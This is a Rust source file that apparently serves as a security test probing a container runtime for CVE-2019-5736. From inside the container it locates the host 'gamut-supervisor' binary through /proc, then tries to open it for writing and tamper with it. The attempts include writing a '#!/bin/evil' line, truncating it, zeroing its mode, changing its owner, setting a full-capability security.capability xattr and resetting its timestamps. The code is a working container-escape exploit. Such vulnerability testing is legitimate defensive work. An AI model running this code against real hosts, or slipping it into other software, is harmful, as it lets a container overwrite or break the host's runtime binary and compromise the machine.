//! CVE-2019-5736: whoever is made to execute `/proc/self/exe` by the container is the runtime's
//! own program, and a process of the container like any other.

use crate::kernel::{OPEN, SETXATTR, call, processes, text};
use crate::races::ready;
use std::fs::{self, File};
use std::io::Write;
use std::os::fd::AsRawFd;
use std::os::unix::fs::PermissionsExt;

const O_WRONLY: usize = 1;

/// Waits for the engine's program to become visible as somebody's executable and tries everything
/// that could change it. Says which file it was, and what could be done to it.
pub fn executable() {
    ready();
    loop {
        for pid in processes() {
            let path = format!("/proc/{pid}/exe");
            let Ok(name) = fs::read_link(&path) else {
                continue;
            };
            if !name.to_string_lossy().contains("gamut-supervisor") {
                continue;
            }
            let Ok(file) = File::open(&path) else {
                continue;
            };
            println!("opened {}", name.display());
            vandalize(&file);
            println!("done");
            let _ = std::io::stdout().flush();
            return;
        }
    }
}

fn vandalize(file: &File) {
    let own = format!("/proc/self/fd/{}", file.as_raw_fd());
    let path = text(&own);
    let open = |flags| call(OPEN, [path.as_ptr().addr(), flags, 0, 0, 0, 0]);
    // Nobody executes it any more after a while, so that nothing but its own nature protects it.
    let mut writable = open(O_WRONLY);
    for _ in 0..200 {
        if writable.is_ok() {
            break;
        }
        std::thread::sleep(std::time::Duration::from_millis(1));
        writable = open(O_WRONLY);
    }
    if let Ok(fd) = writable {
        println!("opened for writing");
        let wrote = fs::OpenOptions::new()
            .write(true)
            .open(format!("/proc/self/fd/{fd}"))
            .and_then(|mut file| file.write_all(b"#!/bin/evil\n"));
        tell("GOT written", wrote.is_ok());
    }
    tell("GOT emptied", File::options().write(true).truncate(true).open(&own).is_ok());
    tell(
        "GOT mode",
        file.set_permissions(fs::Permissions::from_mode(0)).is_ok(),
    );
    tell(
        "GOT owner",
        std::os::unix::fs::fchown(file, Some(1000), Some(1000)).is_ok(),
    );
    // struct vfs_cap_data, revision 2, effective, with every capability: what the engine's machine
    // may not have makes execve(2) fail.
    let mut value = 0x0200_0001_u32.to_le_bytes().to_vec();
    for word in [u32::MAX, 0, 0x1ff, 0] {
        value.extend(word.to_le_bytes());
    }
    let name = text("security.capability");
    let set = [
        path.as_ptr().addr(),
        name.as_ptr().addr(),
        value.as_ptr().addr(),
        value.len(),
        0,
        0,
    ];
    tell("GOT capabilities", call(SETXATTR, set).is_ok());
    let times = fs::FileTimes::new().set_modified(std::time::UNIX_EPOCH);
    tell("GOT times", file.set_times(times).is_ok());
}

fn tell(what: &str, happened: bool) {
    if happened {
        println!("{what}");
    }
}
